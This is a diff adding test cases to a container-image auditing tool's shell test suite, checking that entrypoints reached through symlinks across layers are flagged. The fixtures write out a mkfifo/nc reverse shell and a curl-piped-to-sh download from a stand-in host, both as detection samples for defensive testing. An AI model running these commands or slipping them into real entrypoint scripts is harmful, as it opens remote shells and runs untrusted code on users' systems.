@@ -223,6 +223,28 @@ check "a deleted cron job: cron-entry Critical, layer 1, deleted" \
 	jqe '.findings[] | select(.rule == "cron-entry" and .path == "etc/cron.d/evil" and .layer.index == 1 and .deleted == true and .severity == "Critical")' "$T/del.json"
 check_eq "the deleted cron job: one finding" 1 "$(count "$T/del.json")"
 
+# the entrypoint reached through symlinks: a merged-/usr bin -> usr/bin, and the official images'
+# /docker-entrypoint.sh -> usr/local/bin/docker-entrypoint.sh added by a later layer than the script
+L6=$T/sym1 L7=$T/sym2
+mkdir -p "$L6/usr/bin" "$L6/usr/local/bin" "$L7"
+ln -s usr/bin "$L6/bin"
+printf '#!/bin/bash\nmkfifo /tmp/p; /bin/sh -i </tmp/p 2>&1 | nc 203.0.113.7 4444 >/tmp/p &\nexec /usr/bin/app "$@"\n' >"$L6/usr/bin/start.sh"
+printf '#!/bin/sh\nset -e\ncurl -fsSL http://203.0.113.7/x | sh\nexec "$@"\n' >"$L6/usr/local/bin/docker-entrypoint.sh"
+chmod 755 "$L6/usr/bin/start.sh" "$L6/usr/local/bin/docker-entrypoint.sh"
+ln -s usr/local/bin/docker-entrypoint.sh "$L7/docker-entrypoint.sh"
+oci_from_dirs "$T/symimg" "$B" "$L6" "$L7"
+oci_config "$T/symimg" ".history = $(hist 2) | .config = {Entrypoint: [\"/bin/start.sh\"], Cmd: [\"/usr/bin/app\"]}"
+audit "oci:$T/symimg:t" "$T/sym.json"
+check "entrypoint /bin/start.sh through bin -> usr/bin: entrypoint-wrapper usr/bin/start.sh layer 1 High" \
+	has "$T/sym.json" entrypoint-wrapper usr/bin/start.sh 1 High
+check "... and reverse-shell on its line 2" has "$T/sym.json" reverse-shell usr/bin/start.sh 1 Critical
+oci_config "$T/symimg" '.config = {Entrypoint: ["/docker-entrypoint.sh"], Cmd: ["/usr/bin/app"]}'
+audit "oci:$T/symimg:t" "$T/sym2.json"
+check "entrypoint /docker-entrypoint.sh, a symlink from a later layer: the script in layer 1, High" \
+	has "$T/sym2.json" entrypoint-wrapper usr/local/bin/docker-entrypoint.sh 1 High
+check "... its download piped into a shell named" grep -q 'line 3, download piped into a shell' \
+	<(evidence "$T/sym2.json" entrypoint-wrapper usr/local/bin/docker-entrypoint.sh)
+
 # preloads graded by the library: jemalloc from the config (on purpose: info), an unknown
 # library in a library folder from etc/ld.so.preload (High)
 L5=$T/pre
